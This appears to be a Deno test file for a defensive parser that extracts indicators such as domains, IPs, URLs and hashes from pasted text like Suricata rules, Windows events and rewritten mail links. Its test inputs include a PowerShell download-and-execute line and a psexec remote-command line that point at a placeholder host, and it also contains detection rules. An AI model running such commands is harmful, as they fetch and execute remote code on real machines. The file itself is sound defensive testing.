import { deepEqual, ok } from "../assert.ts";
import { plainText } from "../../lib/pasted/plain_text.ts";
import { readList } from "../../lib/pasted/read_list.ts";

const SAFE_LINK =
  "https://eu01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fa%3Fb%3D1&data=05%7C01&reserved=0";
const V3_LINK = "https://urldefense.com/v3/__https://evil.example/a__;!!x!y$";
const V2_LINK = "https://urldefense.proofpoint.com/v2/url?u=http-3A__evil.example_a-5Fb&d=x";
const SEARCH_LINK = "https://www.google.com/url?sa=D&q=http://evil.example/a";

/** What people paste, and what it asks for. */
const PASTED: readonly (readonly [about: string, text: string, ...asked: string[]])[] = [
  [
    "a piece of an event of Windows",
    '<Data Name="DestinationIp">192.0.2.1</Data>',
    "ipv4 192.0.2.1",
  ],
  [
    "a piece of a page",
    '<p>See <a href="http://evil.example/a?b=1&amp;c=2">this</a></p>',
    "url http://evil.example/a?b=1&c=2",
  ],
  ["a URL without the scheme of its page", "//evil.example/a.js", "url evil.example/a.js"],
  [
    "what a rule of Suricata looks for",
    'alert dns any any -> any any (content:"evil|2e|example"; reference:url,docs.example.org/x; sid:1;)',
    "domain evil.example",
  ],
  [
    "a name in the form of a DNS message",
    'alert udp any any -> any 53 (content:"|04|evil|07|example|00|"; sid:1;)',
    "domain evil.example",
  ],
  ["an address and its name", "192.0.2.1 evil.example", "domain evil.example", "ipv4 192.0.2.1"],
  [
    "an answer of a DNS server",
    "evil.example. 300 IN A 192.0.2.1",
    "domain evil.example",
    "ipv4 192.0.2.1",
  ],
  ["what is blocked, not where to", "0.0.0.0 evil.example", "domain evil.example"],
  [
    "a link in the code of a program",
    "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
    "url http://evil.example/a.ps1",
  ],
  [
    "line breaks of JSON",
    "192.0.2.1\\n192.0.2.2\\r\\n192.0.2.3",
    "ipv4 192.0.2.1",
    "ipv4 192.0.2.2",
    "ipv4 192.0.2.3",
  ],
  [
    "a search of Elastic",
    'process where dns.question.name : "evil.example"',
    "domain evil.example",
  ],
  ["stars around a name", "event.kind:x and url.domain:*evil.example*", "domain evil.example"],
  ["any address of a network", "192.0.2.x", "ipv4_net 192.0.2.0/24"],
  ["a mail address in words", "ann AT evil DOT example", "email_addr ann@evil.example"],
  ["a link of Outlook", SAFE_LINK, `url ${SAFE_LINK}`, "url https://evil.example/a?b=1"],
  ["a link of Proofpoint", V3_LINK, `url ${V3_LINK}`, "url https://evil.example/a"],
  ["an older link of Proofpoint", V2_LINK, `url ${V2_LINK}`, "url http://evil.example/a_b"],
  ["a link of a search", SEARCH_LINK, `url ${SEARCH_LINK}`, "url http://evil.example/a"],
  [
    "a hash that a page broke",
    `${"a1".repeat(20)}\n${"a1".repeat(12)}\n`,
    `sha256 ${"a1".repeat(32)}`,
  ],
  [
    "two hashes",
    `${"a1".repeat(16)}\n${"b2".repeat(16)}\n`,
    `md5 ${"a1".repeat(16)}`,
    `md5 ${"b2".repeat(16)}`,
  ],
  [
    "a table that a program drew",
    "+----+---+\n| ip | n |\n+----+---+\n| 192.0.2.1 | 5 |\n+----+---+",
    "ipv4 192.0.2.1",
  ],
  [
    "an event in XML",
    '<?xml version="1.0"?><Event xmlns="http://schemas.example.org/event"><Data>192.0.2.1</Data></Event>',
    "ipv4 192.0.2.1",
  ],
  [
    "two addresses with a slash between",
    "IPs: 192.0.2.1/192.0.2.2",
    "ipv4 192.0.2.1",
    "ipv4 192.0.2.2",
  ],
  ["a network with its mask", "192.0.2.0/255.255.255.0", "ipv4_net 192.0.2.0/24"],
  [
    "addresses by their last numbers",
    "192.0.2.1, .2, .3",
    "ipv4 192.0.2.1",
    "ipv4 192.0.2.2",
    "ipv4 192.0.2.3",
  ],
  ["a machine in a command", "psexec \\\\evil.example cmd", "domain evil.example"],
  ["a URL in entities", "&lt;http://evil.example/a&gt;", "url http://evil.example/a"],
  [
    "the source of a mail",
    "Click =E2=80=9Chttp://evil.example/a=3Fb=E2=80=9D or =\nhere",
    "url http://evil.example/a?b",
  ],
  [
    "an element of a page",
    '<img src="http://evil.example/p.gif">',
    "url http://evil.example/p.gif",
  ],
  [
    "any other link with another in it",
    "http://evil.example/?next=http://bank.example/",
    "url http://evil.example/?next=http://bank.example/",
  ],
];

for (const [about, text, ...asked] of PASTED) {
  Deno.test(`readList reads ${about}`, () => {
    const found = readList(text).values.map((given) =>
      "meaning" in given
        ? `${given.meaning.normal.subType} ${given.meaning.normal.data}`
        : given.reason
    );
    deepEqual(found, asked);
  });
}

for (const unit of ["\\n", "a1\n", '=3D"', "1.2.3.4,.", "*a.", "&lt;"]) {
  Deno.test(`plainText takes linear time for ${JSON.stringify(unit)} repeated`, () => {
    const start = performance.now();
    plainText(unit.repeat(200_000 / unit.length));
    const ms = performance.now() - start;
    // Half a minute where time grows with the square.
    ok(ms < 5000, `${ms} ms`);
  });
}
